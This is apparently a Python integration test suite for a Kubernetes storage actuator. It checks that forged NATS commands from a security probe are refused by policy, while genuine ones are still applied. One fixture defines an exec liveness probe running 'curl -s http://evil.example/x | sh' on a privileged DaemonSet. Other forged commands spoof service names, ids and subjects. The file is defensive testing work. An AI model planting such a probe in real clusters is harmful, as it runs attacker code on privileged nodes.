"""The forged commands of the issue-19 security probe, each refused by the actuator service.

An anonymous NATS client got all of these applied: an `exec` liveness probe on a privileged
DaemonSet, both replicas of a v1 volume deleted under v2-upgrade's name, an instance-manager pod
deleted, nine volumes of one node upgraded at once by engine-upgrade commands without
preconditions. Here each goes in on LH_COMMANDS exactly as that client published it, against real
NATS and the sandbox's API emulator, and must come out refused: its reason in LH_RESULTS (or, for
a command whose subject and payload disagree, in LH_DEAD) and nothing in the emulator's write log.
Next to them, the genuine commands of the same services are applied, so the refusals are the
policy's, not an actuator that refuses everything.
"""

from __future__ import annotations

import hashlib
import time
from pathlib import Path
from typing import Any

import msgspec
import pytest

from corral_bus import MSG_ID_HEADER, Bus, Lease
from corral_model import codec
from corral_model.envelopes import Command, CommandResult, FieldValue, Outcome, Target, Verb, new_command
from corral_model.subjects import command_subject
from corral_sandbox.emulator import Emulator
from tests.fixtures.nats import NatsServer, queued_commands
from tests.fixtures.processes import eventually
from tests.fixtures.secure_nats import connect_as
from tests.integration.actuator.conftest import (
    DEFAULT_IMAGE,
    NS,
    OLD_IMAGE,
    POLICY_FILE,
    seed_cluster,
    volume,
)
from tests.integration.actuator.harness import (
    InProcessActuator,
    actuator_config,
    dead_letters,
    publish_command,
    results,
    stream_count,
)

pytestmark = pytest.mark.integration

IM_LABEL = "/metadata/labels/longhorn.io~1component"
PROBE = "/spec/template/spec/containers/0/livenessProbe"
CSI = "longhorn-csi-plugin"
STORAGE_LABEL = "node.longhorn.io/storage"
IM_POD = {IM_LABEL: "instance-manager"}
V2 = {"/spec/dataEngine": "v2"}
PERIOD = {f"{PROBE}/periodSeconds": 1}
HTTP_PROBE = {"httpGet": {"path": "/healthz", "port": 9808}}
EXEC_PROBE = {"exec": {"command": ["sh", "-c", "curl -s http://evil.example/x | sh"]}, "periodSeconds": 5}


def _kubeconfig(emulator: Emulator) -> str:
    assert emulator.kubeconfig_path is not None
    return str(emulator.kubeconfig_path)


def _privileged(kind: str, name: str) -> dict[str, Any]:
    container = {
        "name": name,
        "image": "longhornio/longhorn-manager:v1.10.0",
        "securityContext": {"privileged": True},
        "livenessProbe": {
            "httpGet": {"path": "/healthz", "port": 9808},
            "periodSeconds": 5,
            "timeoutSeconds": 4,
        },
    }
    return {
        "apiVersion": "apps/v1",
        "kind": kind,
        "metadata": {"name": name, "namespace": NS},
        "spec": {"template": {"metadata": {}, "spec": {"containers": [container]}}},
    }


def _kube_node(name: str, labels: dict[str, str]) -> dict[str, Any]:
    return {"apiVersion": "v1", "kind": "Node", "metadata": {"name": name, "labels": labels}}


def _replica(name: str, volume_name: str, data_engine: str) -> dict[str, Any]:
    return {
        "apiVersion": "longhorn.io/v1beta2",
        "kind": "Replica",
        "metadata": {"name": name, "namespace": NS},
        "spec": {
            "volumeName": volume_name,
            "dataEngine": data_engine,
            "desireState": "running",
            "nodeID": "node-1",
        },
    }


def _pod(name: str, component: str) -> dict[str, Any]:
    meta = {"name": name, "namespace": NS, "labels": {"longhorn.io/component": component}}
    return {"apiVersion": "v1", "kind": "Pod", "metadata": meta, "spec": {"nodeName": "node-1"}}


def _owned_by(name: str, owner: str) -> dict[str, Any]:
    v = volume(name)
    v["status"]["ownerID"] = owner
    return v


def seed_probe_targets(emulator: Emulator) -> None:
    seed_cluster(emulator, volumes=0)
    emulator.load(
        "apps",
        "daemonsets",
        [_privileged("DaemonSet", n) for n in ("longhorn-csi-plugin", "longhorn-manager")],
    )
    emulator.load(
        "apps", "deployments", [_privileged("Deployment", n) for n in ("corral-actuator", "csi-attacher")]
    )
    # Kubernetes nodes: one labelled for storage, one not.
    emulator.load("", "nodes", [_kube_node("node-1", {STORAGE_LABEL: "yes"}), _kube_node("node-2", {})])
    emulator.load(
        "longhorn.io",
        "volumes",
        [
            volume("v1-vol"),
            *(_owned_by(f"node1-vol-{i}", "node-1") for i in range(9)),
            _owned_by("node2-vol", "node-2"),
        ],
    )
    emulator.load("longhorn.io", "replicas", [_replica(f"v1-vol-r-{i}", "v1-vol", "v1") for i in (1, 2)])
    emulator.load(
        "",
        "pods",
        [_pod("instance-manager-1", "instance-manager"), _pod("instance-manager-2", "instance-manager")],
    )
    emulator.write_log.clear()


def command(
    service: str,
    verb: Verb,
    kind: str,
    name: str,
    *,
    changes: dict[str, Any] | None = None,
    preconditions: dict[str, Any] | None = None,
    created_at: float | None = None,
    term: int = 1,
) -> Command:
    """A command as its service's leader makes one: in lease term 1 unless `term` says otherwise
    (every decision service is fenced, so term 0 is refused)."""
    return new_command(
        service=service,
        verb=verb,
        target=Target(kind=kind, namespace=NS, name=name),
        changes=tuple(FieldValue(path=p, value=v) for p, v in (changes or {}).items()),
        preconditions=tuple(FieldValue(path=p, value=v) for p, v in (preconditions or {}).items()),
        created_at=time.time() if created_at is None else created_at,
        term=term,
    )


def im_delete(name: str, *, created_at: float | None = None, term: int = 1) -> Command:
    """im-restart's delete of an instance-manager pod, saying it means one."""
    return command(
        "im-restart", Verb.DELETE, "Pod", name, preconditions=IM_POD, created_at=created_at, term=term
    )


def engine_upgrade(name: str, preconditions: dict[str, Any] | None = None, term: int = 1) -> Command:
    """engine-upgrade's change, with the tests given (engine-upgrade's own: images and owner node)."""
    return command(
        "engine-upgrade",
        Verb.PATCH,
        "Volume",
        name,
        changes={"/spec/image": DEFAULT_IMAGE},
        preconditions=preconditions,
        term=term,
    )


def owner_tests(owner: str) -> dict[str, Any]:
    return {"/spec/image": OLD_IMAGE, "/status/currentImage": OLD_IMAGE, "/status/ownerID": owner}


async def answered(bus: Bus, commands: list[Command]) -> dict[str, CommandResult]:
    """The result of each command once LH_RESULTS holds one for every one of them."""
    wanted = {c.id for c in commands}

    async def all_there() -> dict[str, CommandResult]:
        found = {r.command_id: r for r in await results(bus) if r.command_id in wanted}
        return found if len(found) == len(wanted) else {}

    return await eventually(all_there, what=f"results for {len(wanted)} commands")


def writes_to(emulator: Emulator, name: str) -> list[Any]:
    return [r for r in emulator.write_log.records(name=name) if r.verb in ("patch", "delete", "create")]


async def test_the_probes_forged_commands_are_refused_and_the_genuine_ones_applied(
    emulator: Emulator, bus: Bus, nats_server: NatsServer
) -> None:
    seed_probe_targets(emulator)
    actuator = InProcessActuator(actuator_config(nats_server.url, _kubeconfig(emulator), "a-1"))
    await actuator.start()
    csi_before = emulator.get("apps", "daemonsets", NS, CSI)
    attacher = emulator.get("apps", "deployments", NS, "csi-attacher")
    assert csi_before is not None and attacher is not None
    try:
        forged: dict[str, tuple[Command, str]] = {
            # An exec liveness probe on a privileged DaemonSet, whole or as its handler alone.
            "exec-probe": (
                command(
                    "setting-sync",
                    Verb.PATCH,
                    "DaemonSet",
                    "longhorn-csi-plugin",
                    changes={PROBE: EXEC_PROBE},
                ),
                f"DaemonSet field {PROBE} is not writable by this service",
            ),
            "exec-handler": (
                command(
                    "setting-sync",
                    Verb.PATCH,
                    "DaemonSet",
                    "longhorn-csi-plugin",
                    changes={f"{PROBE}/exec": EXEC_PROBE["exec"]},
                ),
                f"DaemonSet field {PROBE}/exec is not writable by this service",
            ),
            # A DaemonSet the policy does not name, and the actuator's own Deployment.
            "other-daemonset": (
                command(
                    "setting-sync",
                    Verb.PATCH,
                    "DaemonSet",
                    "longhorn-manager",
                    changes={"/spec/template/spec/priorityClassName": "p"},
                ),
                "DaemonSet 'longhorn-manager' is not one setting-sync may patch (only longhorn-csi-plugin)",
            ),
            "own-deployment": (
                command(
                    "setting-sync",
                    Verb.PATCH,
                    "Deployment",
                    "corral-actuator",
                    changes={"/spec/template/spec/priorityClassName": "p"},
                ),
                "Deployment 'corral-actuator' is not one setting-sync may patch",
            ),
            # A node selector no node carries: the CSI plugin off every node.
            "nowhere-selector": (
                command(
                    "setting-sync",
                    Verb.PATCH,
                    "DaemonSet",
                    CSI,
                    changes={"/spec/template/spec/nodeSelector": {STORAGE_LABEL: "nowhere"}},
                    preconditions={"/metadata/resourceVersion": csi_before["metadata"]["resourceVersion"]},
                ),
                "never a node selector that matches no node: /spec/template/spec/nodeSelector asks for"
                f" labels ({STORAGE_LABEL}) that no node carries",
            ),
            # Both replicas of a v1 volume, under v2-upgrade's name: without saying dataEngine v2,
            # and saying it falsely.
            "v1-replica": (
                command("v2-upgrade", Verb.DELETE, "Replica", "v1-vol-r-1"),
                "a Replica delete by v2-upgrade must carry a precondition on /spec/dataEngine == 'v2'",
            ),
            "v1-replica-lying": (
                command(
                    "v2-upgrade",
                    Verb.DELETE,
                    "Replica",
                    "v1-vol-r-2",
                    preconditions={"/spec/dataEngine": "v2", "/spec/nodeID": "node-1"},
                ),
                "the object is outside the policy: /spec/dataEngine: another value; the policy requires 'v2'",
            ),
            # An instance-manager pod, without saying it means one.
            "im-pod": (
                command("im-restart", Verb.DELETE, "Pod", "instance-manager-1"),
                f"a Pod delete by im-restart must carry a precondition on {IM_LABEL} == 'instance-manager'",
            ),
            # The owner node's volumes upgraded without the owner test: only an ownerless volume may be.
            "no-owner-test": (
                engine_upgrade("node1-vol-8", {"/spec/image": OLD_IMAGE, "/status/currentImage": OLD_IMAGE}),
                "the object is outside the policy: /status/ownerID: another value; the policy requires ''",
            ),
        }
        # Nine volumes of one owner node at once, without preconditions.
        for i in range(8):
            forged[f"node1-vol-{i}"] = (
                engine_upgrade(f"node1-vol-{i}"),
                "a Volume patch by engine-upgrade must carry a precondition on /spec/image",
            )
        genuine = [
            command(
                "setting-sync",
                Verb.PATCH,
                "Deployment",
                "csi-attacher",
                changes={"/spec/template/spec/nodeSelector": {STORAGE_LABEL: "yes"}},
                preconditions={"/metadata/resourceVersion": attacher["metadata"]["resourceVersion"]},
            ),
            engine_upgrade("node2-vol", owner_tests("node-2")),
            command(
                "setting-sync",
                Verb.PATCH,
                "DaemonSet",
                CSI,
                changes={"/spec/template/spec/priorityClassName": "system-node-critical"},
                preconditions={"/metadata/resourceVersion": csi_before["metadata"]["resourceVersion"]},
            ),
            im_delete("instance-manager-2"),
        ]
        for c, _ in forged.values():
            assert await publish_command(bus, c)
        for c in genuine:
            assert await publish_command(bus, c)

        found = await answered(bus, [c for c, _ in forged.values()] + genuine)
        for what, (c, reason) in forged.items():
            result = found[c.id]
            assert result.outcome is Outcome.REJECTED_BY_POLICY, (what, result)
            assert reason in result.detail, (what, result.detail)
        for c in genuine:
            assert found[c.id].outcome is Outcome.APPLIED, found[c.id]

        # Nothing forged reached the cluster.
        for name in ("longhorn-manager", "corral-actuator", "v1-vol-r-1", "v1-vol-r-2", "instance-manager-1"):
            assert not writes_to(emulator, name), name
        for i in range(9):
            assert not writes_to(emulator, f"node1-vol-{i}")
            stored = emulator.get("longhorn.io", "volumes", NS, f"node1-vol-{i}")
            assert stored is not None and stored["spec"]["image"] == OLD_IMAGE
        for i in (1, 2):
            assert emulator.get("longhorn.io", "replicas", NS, f"v1-vol-r-{i}") is not None
        assert emulator.get("", "pods", NS, "instance-manager-1") is not None
        csi = emulator.get("apps", "daemonsets", NS, "longhorn-csi-plugin")
        assert csi is not None
        probe = csi["spec"]["template"]["spec"]["containers"][0]["livenessProbe"]
        assert probe == csi_before["spec"]["template"]["spec"]["containers"][0]["livenessProbe"]
        assert csi["spec"]["template"]["spec"]["priorityClassName"] == "system-node-critical"
        assert "nodeSelector" not in csi["spec"]["template"]["spec"]
        attacher = emulator.get("apps", "deployments", NS, "csi-attacher")
        assert attacher is not None
        assert attacher["spec"]["template"]["spec"]["nodeSelector"] == {STORAGE_LABEL: "yes"}
        assert emulator.get("", "pods", NS, "instance-manager-2") is None
        await eventually(lambda: _drained(bus), what="every command acked")
    finally:
        assert await actuator.stop() == 0


async def _drained(bus: Bus) -> bool:
    return await queued_commands(bus) == 0


async def test_undated_and_future_commands_are_refused_and_not_held_against_the_decision(
    emulator: Emulator, bus: Bus, nats_server: NatsServer
) -> None:
    seed_probe_targets(emulator)
    actuator = InProcessActuator(
        actuator_config(nats_server.url, _kubeconfig(emulator), "a-1", max_clock_skew_s=10.0)
    )
    await actuator.start()
    try:
        undated = command(
            "im-restart", Verb.DELETE, "Pod", "instance-manager-1", preconditions=IM_POD, created_at=0.0
        )
        ahead = time.time() + 3600
        future = command(
            "im-restart", Verb.DELETE, "Pod", "instance-manager-2", preconditions=IM_POD, created_at=ahead
        )
        for c in (undated, future):
            await publish_command(bus, c)
        found = await answered(bus, [undated, future])
        assert found[undated.id].outcome is Outcome.REJECTED_BY_POLICY
        assert "createdAt is 0" in found[undated.id].detail
        assert found[future.id].outcome is Outcome.REJECTED_BY_POLICY
        assert "s in the future, beyond the clock-skew allowance of 10 s" in found[future.id].detail
        assert emulator.get("", "pods", NS, "instance-manager-1") is not None
        assert emulator.get("", "pods", NS, "instance-manager-2") is not None
        assert not writes_to(emulator, "instance-manager-1") and not writes_to(emulator, "instance-manager-2")

        # The same decision, properly dated (past JetStream's dedup: another msg id), is applied:
        # the refusal was about that copy's date, not about the decision.
        dated = im_delete("instance-manager-1")
        assert dated.id == undated.id
        await publish_command(bus, dated, msg_id="dated-again")

        async def applied() -> bool:
            return any(r.command_id == dated.id and r.outcome is Outcome.APPLIED for r in await results(bus))

        await eventually(applied, what="the dated copy to be applied")
        assert emulator.get("", "pods", NS, "instance-manager-1") is None
    finally:
        assert await actuator.stop() == 0


async def test_a_stale_leader_term_is_refused(emulator: Emulator, bus: Bus, nats_server: NatsServer) -> None:
    seed_probe_targets(emulator)
    actuator = InProcessActuator(actuator_config(nats_server.url, _kubeconfig(emulator), "a-1"))
    await actuator.start()
    try:
        # A forged command with a huge term, refused by the policy, teaches the fence nothing.
        forged = engine_upgrade("node1-vol-3", term=1_000_000)
        await publish_command(bus, forged)
        assert "must carry a precondition" in (await answered(bus, [forged]))[forged.id].detail
        new_leader = engine_upgrade("node1-vol-0", owner_tests("node-1"), term=5)
        await publish_command(bus, new_leader)
        assert (await answered(bus, [new_leader]))[new_leader.id].outcome is Outcome.APPLIED
        old_leader = engine_upgrade("node1-vol-1", owner_tests("node-1"), term=4)
        unfenced = engine_upgrade("node1-vol-2", owner_tests("node-1"), term=0)
        for c in (old_leader, unfenced):
            await publish_command(bus, c)
        found = await answered(bus, [old_leader, unfenced])
        assert found[old_leader.id].outcome is Outcome.REJECTED_BY_POLICY
        assert found[old_leader.id].detail == "stale leader term 4 < 5"
        assert not writes_to(emulator, "node1-vol-1")
        # engine-upgrade is fenced: a command without a term is refused too.
        assert found[unfenced.id].outcome is Outcome.REJECTED_BY_POLICY
        assert "the policy fences engine-upgrade" in found[unfenced.id].detail
        assert not writes_to(emulator, "node1-vol-2")
    finally:
        assert await actuator.stop() == 0


async def test_two_leaders_during_a_partition_cannot_both_write(
    emulator: Emulator, secure_bus: Bus, secure_nats: NatsServer
) -> None:
    """Two engine-upgrade replicas lead one after the other through the real lease: the first is
    cut off (it stops renewing without noticing, as a partitioned or paused leader does), the
    second takes the lease over. Both still publish; only the current leader's write lands, and the
    deposed leader's command is refused with the stale term in LH_RESULTS. On a locked-down NATS:
    each replica and the actuator connect as their own users."""
    bus = secure_bus
    seed_probe_targets(emulator)
    credentials = {"nats_user": "actuator", "nats_password": secure_nats.users["actuator"]}
    config = actuator_config(secure_nats.url, _kubeconfig(emulator), "a-1", **credentials)
    actuator = InProcessActuator(config)
    await actuator.start()
    replica_a = await connect_as(secure_nats, "engine-upgrade")
    replica_b = await connect_as(secure_nats, "engine-upgrade")
    first = Lease(replica_a, "engine-upgrade", "replica-a", ttl=1.0)
    second = Lease(replica_b, "engine-upgrade", "replica-b", ttl=1.0)
    try:
        await first.start()
        await eventually(lambda: first.is_leader, what="replica-a to lead")
        old_term = first.term
        await first.stop(release=False)  # partitioned: no renewals, no release, no idea
        await second.start()
        await eventually(lambda: second.is_leader, within=10.0, what="replica-b to take over")
        assert second.term > old_term
        new = engine_upgrade("node1-vol-0", owner_tests("node-1"), term=second.term)
        await publish_command(replica_b, new)
        assert (await answered(bus, [new]))[new.id].outcome is Outcome.APPLIED
        deposed = engine_upgrade("node1-vol-1", owner_tests("node-1"), term=old_term)
        await publish_command(replica_a, deposed)
        refused = (await answered(bus, [deposed]))[deposed.id]
        assert refused.outcome is Outcome.REJECTED_BY_POLICY
        assert refused.detail == f"stale leader term {old_term} < {second.term}"
        assert writes_to(emulator, "node1-vol-0") and not writes_to(emulator, "node1-vol-1")
        for replica in (replica_a, replica_b):
            await replica.nc.flush()
            assert not replica.denials, list(replica.denials)
    finally:
        await second.stop()
        assert await actuator.stop() == 0
        await replica_a.close()
        await replica_b.close()


async def test_a_fenced_service_must_carry_its_term(
    emulator: Emulator, bus: Bus, nats_server: NatsServer, tmp_path: Path
) -> None:
    assert "  im-restart:\n    fenced: true\n" in POLICY_FILE.read_text()
    seed_probe_targets(emulator)
    actuator = InProcessActuator(actuator_config(nats_server.url, _kubeconfig(emulator), "a-1"))
    await actuator.start()
    try:
        unfenced, fenced = im_delete("instance-manager-1", term=0), im_delete("instance-manager-2", term=1)
        for c in (unfenced, fenced):
            await publish_command(bus, c)
        found = await answered(bus, [unfenced, fenced])
        assert found[unfenced.id].outcome is Outcome.REJECTED_BY_POLICY
        assert "the policy fences im-restart" in found[unfenced.id].detail
        assert emulator.get("", "pods", NS, "instance-manager-1") is not None
        assert found[fenced.id].outcome is Outcome.APPLIED
    finally:
        assert await actuator.stop() == 0


async def test_commands_not_what_they_say_and_oversize_ones_go_to_dead_letters(
    emulator: Emulator, bus: Bus, nats_server: NatsServer
) -> None:
    """No result is published under the id such a command claims (it could be a real command's),
    and the real command with that id is then applied as usual."""
    seed_probe_targets(emulator)
    actuator = InProcessActuator(actuator_config(nats_server.url, _kubeconfig(emulator), "a-1"))
    await actuator.start()
    try:
        pod = im_delete("instance-manager-1")
        # Published on another pod's subject (so a subject-based NATS permission or audit sees
        # the wrong object), and on a volume's subject.
        for subject in (
            command_subject("im-restart", "pod", NS, "instance-manager-2"),
            command_subject("im-restart", "volume", NS, "instance-manager-1"),
        ):
            await bus.js.publish(subject, codec.encode(pod), headers={MSG_ID_HEADER: subject})
        # The real command's id on other content: a v1 replica's delete, on its own subject.
        borrowed = msgspec.structs.replace(
            command("v2-upgrade", Verb.DELETE, "Replica", "v1-vol-r-1", preconditions=V2), id=pod.id
        )
        await publish_command(bus, borrowed, msg_id="borrowed")
        # ~1 MB that is no command at all: too large to dead-letter whole.
        garbage = b"\xff" * 1_000_000
        await bus.js.publish(
            command_subject("engine-upgrade", "volume", NS, "v1-vol"), garbage, headers={MSG_ID_HEADER: "big"}
        )

        async def parked() -> bool:
            return await stream_count(bus, "LH_DEAD") == 4 and await _drained(bus)

        await eventually(parked, what="four dead letters and an empty work queue")
        letters = sorted(await dead_letters(bus), key=lambda d: d.reason)
        assert [d.reason for d in letters[:3]] == [
            f"permanent: id {pod.id!r} is not the hash of the command's service, verb, target, changes"
            " and preconditions",
            "permanent: subject and payload disagree: kind 'volume' in the subject but 'Pod' in the payload",
            "permanent: subject and payload disagree:"
            " name 'instance-manager-2' in the subject but 'instance-manager-1' in the payload",
        ]
        big = letters[3]
        assert big.reason.startswith("undecodable:") and big.truncated
        assert big.payload_size == len(garbage) and big.payload_sha256 == hashlib.sha256(garbage).hexdigest()
        # No result under the id the forged copies claim, and nothing written.
        assert not [r for r in await results(bus) if r.command_id == pod.id]
        assert emulator.get("", "pods", NS, "instance-manager-1") is not None
        assert emulator.get("longhorn.io", "replicas", NS, "v1-vol-r-1") is not None
        assert not writes_to(emulator, "instance-manager-1") and not writes_to(emulator, "v1-vol-r-1")

        # The real command, on its own subject, is applied: nothing was remembered against its id.
        await publish_command(bus, pod)
        assert (await answered(bus, [pod]))[pod.id].outcome is Outcome.APPLIED
        assert emulator.get("", "pods", NS, "instance-manager-1") is None
    finally:
        assert await actuator.stop() == 0
